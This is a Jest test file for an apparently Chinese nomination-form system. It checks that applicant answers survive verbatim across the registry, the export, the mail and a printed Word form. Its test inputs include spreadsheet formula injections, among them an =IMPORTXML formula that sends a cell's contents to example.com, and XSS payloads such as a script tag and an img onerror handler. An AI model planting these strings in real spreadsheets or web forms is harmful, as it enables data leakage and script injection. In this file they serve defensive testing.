// What applicants type comes back to the letter from every place it was written to, by the form and on paper.
import { beforeAll, expect, test } from '@jest/globals';
import { strFromU8, unzipSync } from 'fflate';
import { workspaceDocument } from '../../../src/local/export/export-workspace';
import type { FileRecord } from '../../../src/local/services/drive/files';
import { type Campaign, MINUTE, openCampaign, readyCampaign } from '../../support/campaign';
import { entryNumber, type FilledForm } from '../../support/entries';

let ready: string;
beforeAll(() => {
  ready = readyCampaign();
});

const LONG = '他总是第一个到、最后一个走。'.repeat(2143).slice(0, 30_000);
const HOSTILE: [string, string][] = [
  ['a formula', '=IMPORTXML("https://example.com/"&A1,"//a")'],
  ['a link formula', '=HYPERLINK("https://example.com","点我")'],
  ['a plus', '+86 19900000000'],
  ['a minus and an at sign', '-1+1 @SUM(A1)'],
  ['an apostrophe', "'x"],
  ['two apostrophes', "''x"],
  ['leading zeros', '010010'],
  ['18 digits', '110101199003070011'],
  ['a date', '3-4'],
  ['emoji', '👩🏽‍🔧🏳️‍🌈 最美 👨‍👩‍👧‍👦'],
  ['HTML', '<script>alert("x")</script><b>&amp;</b>'],
  ['a leading tab', '\t=1+1'],
  ['line breaks', '第一行\n第二行\n\n第四行 '],
  ['a carriage return', '\r\n=1+1'],
  ['NUL and a bell', '前\u0000后\u0007'],
  ['half a character', '前\uD83D后'],
  ['30,000 characters', LONG],
];

/** All answers that stay as typed are the text; its other answers are ordinary. */
function entryWith(text: string): FilledForm {
  return { ...entryNumber(1, { 事迹材料: text, 媒体表彰情况: text }), uploads: {} };
}

interface Everywhere {
  registry: unknown[];
  answers: unknown[];
  exported: unknown[];
}

function everywhere(campaign: Campaign): Everywhere {
  const deeds = campaign.rows('deeds')[0]!;
  const nomination = campaign.rows('nominations')[0]!;
  const whole = JSON.parse(JSON.stringify(workspaceDocument(campaign.workspace)));
  const { fields } = whole.nominations[0];
  return {
    registry: [deeds.deeds, deeds.media_honors],
    answers: [JSON.parse(String(nomination.answers)).name, nomination.deeds_length],
    exported: [fields.事迹材料, fields.媒体表彰情况],
  };
}

test.each(HOSTILE)('%s, by the form', (_what, text) => {
  const campaign = openCampaign(ready);
  campaign.submit(entryWith(text));
  campaign.sweep();
  expect(everywhere(campaign)).toEqual({
    registry: [text, text],
    answers: ['钱华海', text.length],
    exported: [text, text],
  });
});

test.each(HOSTILE)('%s, on paper', (_what, text) => {
  const campaign = openCampaign(ready);
  campaign.fileInOnPaper(entryWith(text));
  campaign.wait(MINUTE);
  campaign.click('menuImportOffline');
  expect(everywhere(campaign)).toEqual({
    registry: [text, text],
    answers: ['钱华海', text.length],
    exported: [text, text],
  });
});

/** Short answers: normalised in their columns, and kept as typed beside. */
test.each([
  ['姓名', '=1+1'],
  ['职务/职称', '=HYPERLINK("https://example.com","x")'],
  ['通讯地址', "''x"],
  ['邮编', '010010'],
  ['联系电话', '+86 199 0000 0001'],
  ['单位名称（填写至部门）', '<img src=x onerror=alert(1)>'],
  ['职务/职称', '😀\t=1'],
])(
  '%s: %s is kept as typed, in the registry, the outbox, the mail and the printed form',
  (question, text) => {
    const campaign = openCampaign(ready);
    campaign.submit({ ...entryNumber(1, { [question]: text }), uploads: {} });
    const [nomination] = campaign.rows('nominations');
    const fields = {
      姓名: 'name',
      '职务/职称': 'post',
      通讯地址: 'address',
      邮编: 'postcode',
      联系电话: 'phone',
      '单位名称（填写至部门）': 'unit',
    } as Record<string, string>;
    const answers = JSON.parse(String(nomination!.answers)) as Record<string, string>;
    expect(answers[fields[question]!]).toBe(text);
    const value = String(nomination![fields[question]!]);
    for (const tab of ['nominations', 'deeds', 'outbox', 'journal'])
      for (const row of campaign.rows(tab))
        expect(Object.values(row).filter((cell) => /^#[A-Z]+/.test(String(cell)))).toEqual([]);
    const [mail] = campaign.mail;
    expect(mail!.htmlBody).toBe('');
    expect(textOfForm(campaign)).toContain(value.split('\t')[0]);
    if (question === '姓名') expect(mail!.body).toContain(`“${value}”`);
  },
);

function fileCalled(campaign: Campaign, name: RegExp): Buffer {
  const files = Object.values(campaign.workspace.store.get<Record<string, FileRecord>>('drive', 'files')!);
  const found = files.filter((file) => name.test(file.name));
  if (found.length !== 1) throw new Error(`${found.length} files are called ${name}`);
  return campaign.workspace.blobs.get(found[0]!.content!);
}

/** The words of the form to print, as a word processor shows them. */
function textOfForm(campaign: Campaign): string {
  const parts = unzipSync(new Uint8Array(fileCalled(campaign, /打印盖章用/)));
  const signs: Record<string, string> = { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' };
  return [...strFromU8(parts['word/document.xml']!).matchAll(/<w:t[^>]*>([^<]*)<\/w:t>/g)]
    .map(([, text]) => text!.replace(/&(lt|gt|quot|apos|amp);/g, (_all, name: string) => signs[name]!))
    .join('');
}

test('60,000 characters: the cell shows the beginning, a file in the folder has all', () => {
  const campaign = openCampaign(ready);
  const text = `=${'1234567890'.repeat(6_000)}`.slice(0, 60_000);
  campaign.submit(entryWith(text));
  const deeds = String(campaign.rows('deeds')[0]!.deeds);
  expect(deeds).toBe(`${text.slice(0, 40_000)}……（全文共 60000 字，见材料文件夹中的“填报原文.txt”）`);
  const original = fileCalled(campaign, /^填报原文\.txt$/).toString('utf8');
  expect(original).toContain(`【事迹材料】\n${text}\n`);
  expect(original).toContain(`【媒体表彰情况】\n${text}\n`);
});
